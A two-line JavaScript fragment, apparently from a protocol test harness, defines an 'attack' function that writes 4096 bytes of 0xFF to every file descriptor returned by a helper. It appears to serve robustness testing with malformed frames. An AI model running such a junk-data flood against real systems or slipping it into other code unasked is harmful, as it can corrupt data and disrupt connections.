// include: frames.js
const attack = () => { toAll((fd) => fs.writeSync(fd, Buffer.alloc(4096, 255))); };
